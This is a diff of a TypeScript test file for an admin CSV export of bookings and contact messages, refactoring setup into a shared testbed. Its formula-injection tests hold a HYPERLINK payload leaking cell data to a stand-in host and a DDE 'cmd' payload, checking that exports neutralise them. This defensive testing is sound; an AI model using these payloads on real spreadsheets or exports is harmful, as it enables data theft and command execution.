@@ -1,33 +1,19 @@
 import { desc, sql } from "drizzle-orm";
 import type { Logger } from "pino";
-import type { AppLoadContext } from "react-router";
 import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
 import { loader as exportLoader } from "~/routes/admin.export";
 import type { Database } from "~/server/db/client.server";
-import { createSlot, createUser, insertBooking } from "~/server/db/factories.server";
+import { createSlot, insertBooking, insertContactMessage } from "~/server/db/factories.server";
 import { auditLog, consultationBookings, contactMessages, emailOutbox } from "~/server/db/schema.server";
 import { EXPORT_BATCH_SIZE, exportBookingsCsv, exportMessagesCsv } from "~/server/exports.server";
-import { createTestContext, getRequest, signInCookie } from "./app-context";
-import { createTestDatabase, testDriver, type TestDatabase } from "./test-database";
+import { createAdminTestbed, getRequest, type AdminTestbed, type TestContext } from "./app-context";
+import { testDriver, type TestDatabase } from "./test-database";
 
-let t: TestDatabase;
-let context: AppLoadContext;
-const password = "tigris riverside 2031";
-let adminCookie: string;
-let investorCookie: string;
-let adminId: string;
-
+let bed: AdminTestbed, t: TestDatabase, context: TestContext;
 beforeAll(async () => {
-  t = await createTestDatabase();
-  context = createTestContext(t);
-  adminId = (await createUser(t.db, { email: "export-admin@example.com", password, role: "admin" })).id;
-  await createUser(t.db, { email: "export-investor@example.com", password });
-  adminCookie = await signInCookie(context, "export-admin@example.com", password);
-  investorCookie = await signInCookie(context, "export-investor@example.com", password);
+  ({ t, context } = bed = await createAdminTestbed("export-"));
 });
-afterAll(async () => {
-  await t?.destroy();
-});
+afterAll(() => bed?.destroy());
 beforeEach(async () => {
   await t.db.delete(contactMessages);
   await t.db.delete(emailOutbox);
@@ -115,7 +101,6 @@ async function readCsv(response: Response): Promise<string[][]> {
   return parseCsv(text.slice(1));
 }
 
-const admin = () => ({ kind: "user" as const, userId: adminId, isAdmin: true });
 const silentLog = () => ({ info: vi.fn(), error: vi.fn(), warn: vi.fn() });
 
 describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
@@ -136,7 +121,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
     await insertBooking(t.db, { email: "pending@example.com", status: "pending" });
     await insertBooking(t.db, { email: "confirmed@example.com", status: "confirmed" });
 
-    const response = await get("bookings.csv", "?status=cancelled", adminCookie);
+    const response = await get("bookings.csv", "?status=cancelled", bed.admin.cookie);
     expect(response.status).toBe(200);
     expect(response.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
     expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="bookings-cancelled-\d{4}-\d{2}-\d{2}\.csv"$/);
@@ -161,15 +146,15 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
       ],
     ]);
 
-    const all = await readCsv(await get("bookings.csv", "", adminCookie));
+    const all = await readCsv(await get("bookings.csv", "", bed.admin.cookie));
     expect(all.slice(1).map((r) => r[3]).sort()).toEqual(["confirmed@example.com", "layla@example.com", "pending@example.com"]);
-    const unfiltered = await get("bookings.csv", "?status=archived", adminCookie);
+    const unfiltered = await get("bookings.csv", "?status=archived", bed.admin.cookie);
     expect(unfiltered.headers.get("Content-Disposition")).toMatch(/^attachment; filename="bookings-\d{4}-\d{2}-\d{2}\.csv"$/);
     expect(await readCsv(unfiltered)).toHaveLength(4);
   });
 
   it("sends just the BOM and the header when nothing matches", async () => {
-    const { text } = await body(await get("bookings.csv", "?status=completed", adminCookie));
+    const { text } = await body(await get("bookings.csv", "?status=completed", bed.admin.cookie));
     expect(text).toBe(`\uFEFF${BOOKING_HEADER.join(",")}\r\n`);
   });
 
@@ -182,7 +167,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
       preferredTime: "\t=1+1",
       message: "+1",
     });
-    const [, row] = await readCsv(await get("bookings.csv", "", adminCookie));
+    const [, row] = await readCsv(await get("bookings.csv", "", bed.admin.cookie));
     expect(row![1]).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
     expect(row![2]).toBe("'@SUM(1+1)");
     expect(row![4]).toBe("'+1 555 0100");
@@ -194,7 +179,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
   it("round-trips commas, quotes, line breaks and non-Latin names", async () => {
     const message = 'He said "call me", then:\nline two\r\nline three, done';
     await insertBooking(t.db, { firstName: "ليلى", lastName: "Zoë, Jr.", message, investmentAmount: "$1,000,000" });
-    const response = await get("bookings.csv", "", adminCookie);
+    const response = await get("bookings.csv", "", bed.admin.cookie);
     const { text } = await body(response.clone());
     expect(text).toContain(`"He said ""call me"", then:\nline two\r\nline three, done"`);
     const [, row] = await readCsv(response);
@@ -218,7 +203,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
       })),
     );
     const expected = await t.db.select({ email: consultationBookings.email }).from(consultationBookings).orderBy(desc(consultationBookings.createdAt), desc(consultationBookings.id));
-    const records = await readCsv(await get("bookings.csv", "", adminCookie));
+    const records = await readCsv(await get("bookings.csv", "", bed.admin.cookie));
     expect(records[0]).toEqual(BOOKING_HEADER);
     expect(records.slice(1).map((r) => r[3])).toEqual(expected.map((r) => r.email));
     expect(new Set(records.slice(1).map((r) => r[3])).size).toBe(total);
@@ -241,7 +226,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
     }
     const expected = await t.db.select({ email: consultationBookings.email }).from(consultationBookings).orderBy(desc(consultationBookings.createdAt), desc(consultationBookings.id));
     for (const batchSize of [1, 2, 3]) {
-      const stream = await exportBookingsCsv(t.db, admin(), {}, { log: silentLog() as unknown as Logger, batchSize });
+      const stream = await exportBookingsCsv(t.db, bed.admin.actor, {}, { log: silentLog() as unknown as Logger, batchSize });
       const records = await readCsv(new Response(stream));
       expect(records.slice(1).map((r) => r[3]), `batches of ${batchSize}`).toEqual(expected.map((r) => r.email));
     }
@@ -249,7 +234,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
 
   it("refuses a visitor and an investor with 403 and no data", async () => {
     await insertBooking(t.db, { email: "secret@example.com" });
-    for (const cookie of [undefined, investorCookie]) {
+    for (const cookie of [undefined, bed.investor.cookie]) {
       const response = await get("bookings.csv", "", cookie);
       expect(response.status).toBe(403);
       expect(response.headers.get("Location")).toBeNull();
@@ -267,7 +252,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
 
   it("answers 404 to an unknown export", async () => {
     for (const kind of ["users.csv", "bookings", "bookings.json", "messages.CSV"]) {
-      const response = await get(kind, "", adminCookie);
+      const response = await get(kind, "", bed.admin.cookie);
       expect(response.status, kind).toBe(404);
       expect(response.headers.get("Content-Disposition")).toBeNull();
     }
@@ -292,16 +277,16 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
       }) as Database;
     };
     const log = silentLog();
-    await expect(exportBookingsCsv(failing(1), admin(), {}, { log: log as unknown as Logger, batchSize: 2 })).rejects.toThrow("connection lost");
+    await expect(exportBookingsCsv(failing(1), bed.admin.actor, {}, { log: log as unknown as Logger, batchSize: 2 })).rejects.toThrow("connection lost");
 
-    const stream = await exportBookingsCsv(failing(2), admin(), {}, { log: log as unknown as Logger, batchSize: 2 });
+    const stream = await exportBookingsCsv(failing(2), bed.admin.actor, {}, { log: log as unknown as Logger, batchSize: 2 });
     await expect(new Response(stream).text()).rejects.toThrow();
     await vi.waitFor(() => expect(log.error).toHaveBeenCalledWith(expect.objectContaining({ export: "bookings" }), expect.stringContaining("aborted")));
 
     const routeLog = silentLog();
     const failingContext = { ...context, db: failing(1), log: routeLog as unknown as Logger };
     const response = (await exportLoader({
-      request: getRequest("/admin/export/bookings.csv", { cookie: adminCookie }),
+      request: getRequest("/admin/export/bookings.csv", { cookie: bed.admin.cookie }),
       params: { kind: "bookings.csv" },
       context: failingContext,
     } as never)) as Response;
@@ -325,7 +310,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
     }) as Database;
     const batchSize = 50;
     const log = silentLog();
-    const stream = await exportBookingsCsv(counting, admin(), {}, { log: log as unknown as Logger, batchSize });
+    const stream = await exportBookingsCsv(counting, bed.admin.actor, {}, { log: log as unknown as Logger, batchSize });
     const reader = stream.getReader();
     // Take a few batches' worth, then go away, as a browser whose download is cancelled does.
     const decoder = new TextDecoder();
@@ -347,13 +332,7 @@ describe(`GET /admin/export/bookings.csv (${testDriver})`, () => {
 });
 
 describe(`GET /admin/export/messages.csv (${testDriver})`, () => {
-  async function insertMessage(overrides: Partial<typeof contactMessages.$inferInsert> = {}) {
-    const [row] = await t.db
-      .insert(contactMessages)
-      .values({ firstName: "Omar", lastName: "Saleh", email: "omar@example.com", investmentAmount: "$600,000", message: "Interested in Jordan.", ...overrides })
-      .returning();
-    return row!;
-  }
+  const insertMessage = (overrides: Parameters<typeof insertContactMessage>[1] = {}) => insertContactMessage(t.db, overrides);
 
   it("gives an admin the messages of the current search, with the linked booking", async () => {
     const booking = await insertBooking(t.db, { phone: "+964 770 000 0000", preferredTime: "Mornings", bookingType: "site_visit", status: "confirmed" });
@@ -367,7 +346,7 @@ describe(`GET /admin/export/messages.csv (${testDriver})`, () => {
     await insertMessage({ firstName: "Karim", email: "karim@example.com", message: "Zainab referred me." });
     await insertMessage({ firstName: "Other", email: "other@example.com" });
 
-    const response = await get("messages.csv", "?q=ZAINAB", adminCookie);
+    const response = await get("messages.csv", "?q=ZAINAB", bed.admin.cookie);
     expect(response.status).toBe(200);
     expect(response.headers.get("Content-Disposition")).toMatch(/^attachment; filename="messages-\d{4}-\d{2}-\d{2}\.csv"$/);
     expect(response.headers.get("Cache-Control")).toBe("private, no-store");
@@ -389,15 +368,15 @@ describe(`GET /admin/export/messages.csv (${testDriver})`, () => {
     ]);
     expect(records.find((r) => r[3] === "karim@example.com")!.slice(6)).toEqual(["no", "", "", "", ""]);
 
-    expect(await readCsv(await get("messages.csv", "", adminCookie))).toHaveLength(4);
+    expect(await readCsv(await get("messages.csv", "", bed.admin.cookie))).toHaveLength(4);
     // The search's wildcards match themselves, as on the tab.
-    expect(await readCsv(await get("messages.csv", "?q=%25", adminCookie))).toHaveLength(1);
+    expect(await readCsv(await get("messages.csv", "?q=%25", bed.admin.cookie))).toHaveLength(1);
   });
 
   it("quotes formula cells and keeps multi-line messages intact", async () => {
     const message = '=cmd|" /C calc"!A0\nsecond, "line"';
     await insertMessage({ firstName: "-Eve", lastName: "@Mallory", message });
-    const [, row] = await readCsv(await get("messages.csv", "", adminCookie));
+    const [, row] = await readCsv(await get("messages.csv", "", bed.admin.cookie));
     expect(row!.slice(1, 3)).toEqual(["'-Eve", "'@Mallory"]);
     expect(row![5]).toBe(`'${message}`);
   });
@@ -416,13 +395,13 @@ describe(`GET /admin/export/messages.csv (${testDriver})`, () => {
       })),
     );
     const expected = await t.db.select({ email: contactMessages.email }).from(contactMessages).orderBy(desc(contactMessages.createdAt), desc(contactMessages.id));
-    const records = await readCsv(await get("messages.csv", "?q=bulk", adminCookie));
+    const records = await readCsv(await get("messages.csv", "?q=bulk", bed.admin.cookie));
     expect(records.slice(1).map((r) => r[3])).toEqual(expected.map((r) => r.email));
   });
 
   it("refuses a visitor and an investor with 403 and no data", async () => {
     await insertMessage({ email: "private@example.com" });
-    for (const cookie of [undefined, investorCookie]) {
+    for (const cookie of [undefined, bed.investor.cookie]) {
       const response = await get("messages.csv", "", cookie);
       expect(response.status).toBe(403);
       expect(response.headers.get("Location")).toBeNull();
